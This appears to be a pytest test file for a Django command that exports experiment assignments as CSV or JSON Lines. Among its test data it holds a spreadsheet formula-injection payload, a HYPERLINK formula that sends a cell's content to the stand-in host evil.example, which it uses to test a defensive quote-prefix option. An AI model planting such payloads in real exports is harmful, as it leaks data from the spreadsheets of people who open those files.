"""assignments/data/exports.py: `manage.py export_assignments` (docs/how-to/data-tasks.md): streamed CSV / JSON Lines of
one experiment."""

from __future__ import annotations

import datetime as dt
import io
import json
import os

import pytest
from django.core.management import CommandError, call_command

from assignments.models import Assignment
from core.exports import CHUNK_SIZE, atomic_output, streaming_read, time_ordered
from tests.factories import AssignmentFactory
from tests.helpers.assignments import assignments_bulk_store
from tests.helpers.commands import command_streams
from tests.helpers.exports import SINCE_CASES, SINCE_ROWS, CursorProbe, csv_rows
from tests.helpers.processes import run_manage, run_manage_piped_to_head

HEADER = ["experiment_id", "subject_id", "variant_id", "cohort", "created_at", "source"]
T0 = dt.datetime(2026, 11, 1, 10, 0, 0, tzinfo=dt.UTC)

# What a subject ID may hold (anything but control characters), and CSV must carry.
AWKWARD_SUBJECT_IDS = [
    "plain",
    "comma,inside",
    'quote"inside',
    '"fully quoted"',
    "  padded  ",
    "semi;colon",
    "ünïcødé-用户-🙂",
    "=1+1",
    "x" * 256,
]


def export(*args: str) -> tuple[str, str]:
    return command_streams("export_assignments", *args)


def test_export__csv_default__header_then_rows_by_resource_id_in_time_order(checkout):
    # Given two assignments stored out of time order, and one of another experiment
    control, green = checkout.variants.order_by("position")
    AssignmentFactory(experiment=checkout, subject_id="late", variant=green, cohort=2, created_at=T0 + dt.timedelta(1))
    AssignmentFactory(experiment=checkout, subject_id="early", variant=control, created_at=T0)
    AssignmentFactory(subject_id="elsewhere")

    # When the experiment is exported without options
    stdout, stderr = export("--experiment", "Checkout-Button")

    # Then stdout holds the CSV alone: IDs as configured (not primary keys), UTC timestamps, oldest first
    assert stderr == ""
    assert stdout == (
        "experiment_id,subject_id,variant_id,cohort,created_at,source\n"
        "Checkout-Button,early,control,1,2026-11-01T10:00:00.000000Z,hashed\n"
        "Checkout-Button,late,Green,2,2026-11-02T10:00:00.000000Z,hashed\n"
    )


def test_export__jsonl__one_object_per_line_with_unescaped_unicode(checkout):
    green = checkout.variants.get(key="Green")
    AssignmentFactory(
        experiment=checkout, subject_id="ünï 🙂", variant=green, created_at=T0 + dt.timedelta(microseconds=7)
    )

    stdout, _ = export("--experiment", "checkout-button", "--format", "jsonl")

    assert stdout == (
        '{"experiment_id": "Checkout-Button", "subject_id": "ünï 🙂", "variant_id": "Green", "cohort": 1, '
        '"created_at": "2026-11-01T10:00:00.000007Z", "source": "hashed"}\n'
    )


def test_export__experiment_id_in_other_case__finds_the_experiment(checkout):
    AssignmentFactory(experiment=checkout, subject_id="u1")

    stdout, _ = export("--experiment", "CHECKOUT-BUTTON")

    assert [row[:2] for row in csv_rows(stdout)[1:]] == [["Checkout-Button", "u1"]]


def test_export__unknown_experiment__command_error_and_no_output(db):
    stdout = io.StringIO()

    with pytest.raises(CommandError, match="no experiment has the ID 'missing'"):
        call_command("export_assignments", "--experiment", "missing", stdout=stdout)

    assert stdout.getvalue() == ""


def test_export__awkward_subject_ids__csv_reads_back_exactly(checkout):
    # Given subject IDs with commas, quotes, padding, Unicode and formula-like text
    for index, subject_id in enumerate(AWKWARD_SUBJECT_IDS):
        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=T0 + dt.timedelta(seconds=index))

    # When exported as CSV
    stdout, _ = export("--experiment", "checkout-button")

    # Then a CSV reader gets every ID back unchanged, one row per line
    rows = csv_rows(stdout)
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:]] == AWKWARD_SUBJECT_IDS
    assert all(len(row) == len(HEADER) for row in rows)
    assert len(stdout.splitlines()) == len(AWKWARD_SUBJECT_IDS) + 1


def test_export__awkward_subject_ids__jsonl_reads_back_exactly(checkout):
    for index, subject_id in enumerate(AWKWARD_SUBJECT_IDS):
        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=T0 + dt.timedelta(seconds=index))

    stdout, _ = export("--experiment", "checkout-button", "--format", "jsonl")

    objects = [json.loads(line) for line in stdout.splitlines()]
    assert [obj["subject_id"] for obj in objects] == AWKWARD_SUBJECT_IDS
    assert all(list(obj) == HEADER and obj["cohort"] == 1 for obj in objects)


# Subject IDs a spreadsheet would run as formulas, and their spreadsheet-safe cells (OWASP's prefix).
FORMULA_SUBJECT_IDS = {
    '=HYPERLINK("https://evil.example/?"&A1,"x")': '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1": "'+1",
    "-2": "'-2",
    "@SUM(A1)": "'@SUM(A1)",
    "a=b": "a=b",
    "plain": "plain",
}


def test_export__formula_subject_ids_without_spreadsheet_safe__exact(checkout):
    for index, subject_id in enumerate(FORMULA_SUBJECT_IDS):
        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=T0 + dt.timedelta(seconds=index))

    stdout, _ = export("--experiment", "checkout-button")

    assert [row[1] for row in csv_rows(stdout)[1:]] == list(FORMULA_SUBJECT_IDS)


def test_export__formula_subject_ids_with_spreadsheet_safe__prefixed_with_a_quote_and_the_rest_exact(checkout):
    for index, subject_id in enumerate(FORMULA_SUBJECT_IDS):
        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=T0 + dt.timedelta(seconds=index))

    safe, _ = export("--experiment", "checkout-button", "--spreadsheet-safe")
    exact, _ = export("--experiment", "checkout-button")

    rows = csv_rows(safe)
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:]] == list(FORMULA_SUBJECT_IDS.values())
    assert [row[:1] + row[2:] for row in rows] == [row[:1] + row[2:] for row in csv_rows(exact)]


def test_export__spreadsheet_safe_with_jsonl__refused_as_a_bad_option_and_no_output(checkout):
    AssignmentFactory(experiment=checkout, subject_id="=1+1")
    stdout = io.StringIO()

    with pytest.raises(CommandError, match="--spreadsheet-safe applies to --format csv only") as refused:
        call_command(
            "export_assignments",
            "--experiment",
            "checkout-button",
            "--format",
            "jsonl",
            "--spreadsheet-safe",
            stdout=stdout,
        )

    assert refused.value.returncode == 2
    assert stdout.getvalue() == ""


def test_export__same_timestamp__ordered_by_insertion(checkout):
    # Given a batch stored with one timestamp, as the API stores a request's new subjects
    Assignment.objects.bulk_create(
        Assignment(
            experiment=checkout, subject_id=subject_id, variant=checkout.variants.first(), cohort=1, created_at=T0
        )
        for subject_id in ["z", "a", "m"]
    )

    stdout, _ = export("--experiment", "checkout-button")

    assert [row[1] for row in csv_rows(stdout)[1:]] == ["z", "a", "m"]


@pytest.mark.parametrize("paged", [False, True])
def test_time_ordered__ties_across_page_boundaries__every_row_once_in_time_then_id_order(checkout, paged):
    # Given rows sharing timestamps, in runs longer than a page, inserted out of time order
    variant = checkout.variants.first()
    moments = [T0 + dt.timedelta(seconds=second) for second in (2, 0, 1, 0, 2, 0, 1, 2, 0)]
    Assignment.objects.bulk_create(
        Assignment(experiment=checkout, subject_id=f"s-{n}", variant=variant, cohort=1, created_at=moment)
        for n, moment in enumerate(moments)
    )
    expected = list(
        Assignment.objects.filter(experiment=checkout).order_by("created_at", "id").values_list("subject_id", flat=True)
    )

    # When read two rows a page, or through the cursor
    with streaming_read():
        rows = list(
            time_ordered(Assignment.objects.filter(experiment=checkout), ("subject_id",), chunk_size=2, paged=paged)
        )

    # Then every row comes once, by time and then by id
    assert [subject_id for (subject_id,) in rows] == expected
    assert len(expected) == len(moments)


def test_export__no_assignments__csv_header_only_and_jsonl_empty(checkout):
    assert (
        export("--experiment", "checkout-button")[0] == "experiment_id,subject_id,variant_id,cohort,created_at,source\n"
    )
    assert export("--experiment", "checkout-button", "--format", "jsonl")[0] == ""


@pytest.mark.parametrize(
    ("since", "expected"),
    [
        *SINCE_CASES,
        ("2026-11-01T11:00:00Z", ["at-11:00", "next-day"]),
        ("2026-11-01T10:00:00.000001+00:00", ["at-11:00", "next-day"]),
    ],
)
def test_export__since__keeps_assignments_made_at_or_after_it(checkout, since, expected):
    # Given assignments just before 10:00, at 10:00 and 11:00 UTC on 1 November and at 00:00 on the 2nd
    for subject_id, moment in SINCE_ROWS:
        AssignmentFactory(experiment=checkout, subject_id=subject_id, created_at=moment)

    stdout, _ = export("--experiment", "checkout-button", "--since", since)

    assert [row[1] for row in csv_rows(stdout)[1:]] == expected


@pytest.mark.parametrize("since", ["yesterday", "2026-13-01", "2026-11-01T25:00", ""])
def test_export__malformed_since__error_names_the_option(checkout, since):
    with pytest.raises(CommandError, match="--since"):
        export("--experiment", "checkout-button", "--since", since)


def test_export__output_file__written_and_summary_alone_on_stdout(checkout, tmp_path):
    # Given an existing file at the destination
    AssignmentFactory(experiment=checkout, subject_id="ünï,1")
    destination = tmp_path / "assignments.csv"
    destination.write_text("old content\n")

    # When exported into it
    stdout, stderr = export("--experiment", "checkout-button", "--output", str(destination))

    # Then it is replaced by the export (UTF-8), stdout holds the summary only, and no temporary file is left
    assert stdout == f"exported 1 assignments of Checkout-Button to {destination}\n"
    assert stderr == ""
    rows = csv_rows(destination.read_text(encoding="utf-8"))
    assert rows[0] == HEADER
    assert rows[1][:3] == ["Checkout-Button", "ünï,1", "control"]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["assignments.csv"]


def test_export__output_file__gets_the_mode_umask_allows(checkout, tmp_path):
    previous = os.umask(0o027)
    try:
        export("--experiment", "checkout-button", "--output", str(tmp_path / "out.csv"))
    finally:
        os.umask(previous)

    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o640


def test_export__output_unknown_experiment__existing_file_untouched(db, tmp_path):
    destination = tmp_path / "assignments.csv"
    destination.write_text("previous export\n")

    with pytest.raises(CommandError):
        export("--experiment", "missing", "--output", str(destination))

    assert destination.read_text() == "previous export\n"
    assert list(tmp_path.iterdir()) == [destination]


def test_export__output_in_missing_directory__command_error_naming_the_file(checkout, tmp_path):
    destination = tmp_path / "no-such-dir" / "out.csv"

    with pytest.raises(CommandError, match=r"cannot write .*out\.csv: No such file or directory"):
        export("--experiment", "checkout-button", "--output", str(destination))


def test_atomic_output__block_fails_midway__old_file_kept_and_no_partial_file(tmp_path):
    # Given a previous export at the destination
    destination = tmp_path / "export.csv"
    destination.write_text("complete previous export\n")

    # When a new export fails after writing part of its rows
    with pytest.raises(RuntimeError), atomic_output(destination) as handle:
        handle.write("half of a new export\n")
        raise RuntimeError("database went away")

    # Then the previous file is intact and nothing else is left in the directory
    assert destination.read_text() == "complete previous export\n"
    assert list(tmp_path.iterdir()) == [destination]


def test_atomic_output__before_the_block_ends__destination_not_yet_written(tmp_path):
    destination = tmp_path / "export.csv"

    with atomic_output(destination) as handle:
        handle.write("row\n")
        handle.flush()
        assert not destination.exists()

    assert destination.read_text() == "row\n"


@pytest.mark.postgres
@pytest.mark.single_node("streams through one server-side cursor; on Citus the export reads pages (time_ordered)")
@pytest.mark.django_db(transaction=True)
def test_export__many_rows_on_postgresql__streamed_through_a_server_side_cursor_without_hold(checkout):
    # Given more assignments than one fetch holds, committed (no test transaction around the command)
    row_count = 5000
    assert row_count > 2 * CHUNK_SIZE
    assignments_bulk_store(checkout, row_count, start=T0)
    probe = CursorProbe()

    # When exported in autocommit mode, as from the command line (JSON Lines: the first write is a row)
    call_command("export_assignments", "--experiment", "checkout-button", "--format", "jsonl", stdout=probe)

    # Then the rows came through an open server-side cursor over the assignments, one not declared
    # WITH HOLD (PostgreSQL would materialise that whole result before sending the first row)
    assert probe.held("assignment") is False
    # And every row arrived, in time order
    objects = probe.json_lines()
    assert [obj["subject_id"] for obj in objects] == [f"s{index:06d}" for index in range(row_count)]
    assert objects[-1]["created_at"] == "2026-11-01T11:23:19.000000Z"


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_export__many_rows_since__only_the_later_ones(checkout):
    assignments_bulk_store(checkout, 5000, start=T0)

    stdout, _ = export("--experiment", "checkout-button", "--since", "2026-11-01T11:00:00Z", "--format", "jsonl")

    # 11:00 is 3600 seconds after the first row, at 10:00
    subject_ids = [json.loads(line)["subject_id"] for line in stdout.splitlines()]
    assert subject_ids == [f"s{index:06d}" for index in range(3600, 5000)]


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_export_process__success_and_failures__exit_codes_and_stdout_holds_only_data(checkout, tmp_path):
    # Given committed assignments
    assignments_bulk_store(checkout, 3, start=T0)

    # When the command runs as a process: to stdout, to a file, for an unknown experiment, with a bad --since
    to_stdout = run_manage("export_assignments", "--experiment", "checkout-button")
    to_file = run_manage("export_assignments", "--experiment", "checkout-button", "--output", str(tmp_path / "a.csv"))
    unknown = run_manage("export_assignments", "--experiment", "nope")
    bad_since = run_manage("export_assignments", "--experiment", "checkout-button", "--since", "soon")

    # Then success exits 0 with the data alone on stdout
    assert to_stdout.returncode == 0, to_stdout.stderr
    assert to_stdout.stderr == b""
    assert to_stdout.stdout.decode() == (
        "experiment_id,subject_id,variant_id,cohort,created_at,source\n"
        "Checkout-Button,s000000,control,1,2026-11-01T10:00:00.000000Z,hashed\n"
        "Checkout-Button,s000001,Green,1,2026-11-01T10:00:01.000000Z,hashed\n"
        "Checkout-Button,s000002,control,1,2026-11-01T10:00:02.000000Z,hashed\n"
    )
    assert to_file.returncode == 0
    assert to_file.stdout.decode() == f"exported 3 assignments of Checkout-Button to {tmp_path / 'a.csv'}\n"
    assert (tmp_path / "a.csv").read_bytes() == to_stdout.stdout
    # And failures exit non-zero with the reason on stderr and nothing on stdout
    assert unknown.returncode == 1
    assert unknown.stdout == b""
    assert b"no experiment has the ID 'nope'" in unknown.stderr
    assert bad_since.returncode != 0
    assert bad_since.stdout == b""
    assert b"argument --since" in bad_since.stderr


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("export_format", ["csv", "jsonl"])
def test_export_process__piped_to_head__stops_quietly_exit_0(checkout, export_format):
    # Given far more rows than a pipe buffers
    assignments_bulk_store(checkout, 5000, start=T0)

    # When the reader takes the first lines and goes away: `export_assignments ... | head -3`, under pipefail
    result = run_manage_piped_to_head(
        "export_assignments", "--experiment", "checkout-button", "--format", export_format, lines=3
    )

    # Then the command stops there as `git log | head` does: its own exit status 0, nothing on stderr
    assert (result.returncode, result.stderr) == (0, b"")
    assert len(result.stdout.splitlines()) == 3


def test_export__holdout__its_memberships_like_any_experiments_assignments(holdout_members):
    stdout, _ = export("--experiment", "h1")

    rows = csv_rows(stdout)
    assert rows[0] == HEADER
    assert sorted((row[0], row[1], row[2], row[3], row[5]) for row in rows[1:]) == [
        ("h1", "u1", "held_out", "1", "hashed"),
        ("h1", "u2", "general", "1", "hashed"),
        ("h1", "u3", "held_out", "1", "hashed"),
    ]
